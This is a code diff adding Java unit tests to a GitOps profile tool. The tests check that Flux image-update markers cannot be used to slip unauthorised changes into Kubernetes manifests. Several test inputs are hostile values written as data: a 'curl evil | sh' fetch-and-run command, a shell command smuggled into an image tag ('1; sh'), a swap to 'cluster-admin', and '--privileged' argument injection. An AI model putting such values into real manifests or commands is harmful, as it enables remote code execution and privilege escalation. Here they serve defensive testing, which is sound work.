@@ -1,6 +1,7 @@
 package io.gitopsprofile.tree;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import io.gitopsprofile.read.KubernetesObjects;
 import io.gitopsprofile.render.RenderedFile;
@@ -114,6 +115,85 @@ class MarkedObjectTest {
     generateAndEdit("image: a:1\n", "a:1", "a:2" + IMAGE);
     Result other = result(object("image: a:1\n").replace("name: p", "name: q"));
     assertThat(write(other).droppedMarkers()).hasSize(1);
+  }
+
+  @Test
+  void aMarkerLetsNoTextPassThatFluxDoesNotSet() throws IOException {
+    assertEdited("command:\n- sleep 1\n", "sleep 1", "curl evil | sh" + TAG);
+    assertEdited("command:\n- sleep\n", "sleep", "evil" + TAG);
+    assertEdited("args:\n- image\n", "image", "evil" + NAME);
+    assertEdited("serviceAccountName: sa\n", ": sa", ": cluster-admin" + NAME);
+    assertEdited("roleRef:\n  name: sa\n", "name: sa", "name: cluster-admin" + NAME);
+    assertEdited("image:\n  tag: '1'\n", "tag: \"1\"", "tag: 1; sh" + TAG);
+    assertEdited("image:\n  digest: a\n", "digest: a", "digest: sha256:0" + DIGEST);
+    assertEdited("image:\n  repository: a\n", "repository: a", "repository: -a" + NAME);
+    assertEdited("image: a:1\n", "a:1", "a:--privileged" + IMAGE);
+    assertEdited("image: a:1\n", "a:1", "b:1" + IMAGE);
+  }
+
+  @Test
+  void aTextThatFluxCannotSetIsAnEditBehindAKnownMarkerToo() throws IOException {
+    String spec = "image:\n  repository: a\n  tag: '1'\nother: b:1\n";
+    for (String tag : List.of("\"\"", "1; sh")) {
+      generateAndEdit(spec, "\"1\"", "\"2\"" + TAG);
+      edit("\"2\"", tag);
+      assertEdited(spec);
+    }
+    generateAndEdit(spec, "b:1", "b:2" + IMAGE);
+    edit("b:2", "b");
+    assertEdited(spec);
+  }
+
+  @Test
+  void fluxMaySetATagThatTheProfileLeavesOut() throws IOException {
+    String spec = "image: a\nother:\n  repository: b\n  tag: ''\n";
+    generateAndEdit(spec, "image: a", "image: a" + IMAGE);
+    edit("tag: \"\"", "tag: \"\"" + TAG);
+    write(spec);
+    edit("image: a", "image: a:1.0");
+    edit("tag: \"\"", "tag: \"5\"");
+    assertThat(verify(spec)).isEmpty();
+    write(spec + "replicas: 2\n");
+    assertThat(text()).contains("image: a:1.0" + IMAGE, "tag: \"5\"" + TAG, "replicas: 2");
+  }
+
+  @Test
+  void whatFluxSetsIsNoEdit() throws IOException {
+    String sum = "sha256:" + "0123456789abcdef".repeat(4);
+    for (String image : List.of("1.2-x_3", "1@" + sum)) {
+      Files.deleteIfExists(file);
+      write("image: ghcr.io:443/o/a-b/c__d:1\n");
+      edit("d:1", "d:" + image + IMAGE);
+      assertThat(verify("image: ghcr.io:443/o/a-b/c__d:1\n")).isEmpty();
+    }
+    Files.delete(file);
+    write("name: a\nnewTag: '1'\nregistry: r\ndigest: d\n");
+    edit("name: a\n", "name: docker.io/library/a" + NAME + "\n");
+    edit("registry: r\n", "registry: gcr.io/r" + NAME + "\n");
+    edit("digest: d\n", "digest: " + sum + DIGEST + "\n");
+    assertThat(verify("name: a\nnewTag: '1'\nregistry: r\ndigest: d\n")).isEmpty();
+  }
+
+  private void assertEdited(String spec, String what, String with) throws IOException {
+    for (boolean known : new boolean[] {false, true}) {
+      Files.deleteIfExists(file);
+      write(spec);
+      if (known && with.contains(" # ")) {
+        edit(what, what + with.substring(with.indexOf(" # ")));
+        if (!verify(spec).isEmpty()) {
+          continue;
+        }
+        write(spec);
+      }
+      edit(what, with.substring(0, known ? with.indexOf(" # ") : with.length()));
+      assertEdited(spec);
+    }
+  }
+
+  private void assertEdited(String spec) throws IOException {
+    assertThat(verify(spec)).extracting(Drift::kind).containsExactly(Drift.Kind.EDITED);
+    assertThatThrownBy(() -> write(spec)).hasMessageContaining("PRF100");
+    Files.delete(file);
   }
 
   /** Renders, marks or changes something as Flux or a person does, and renders again. */
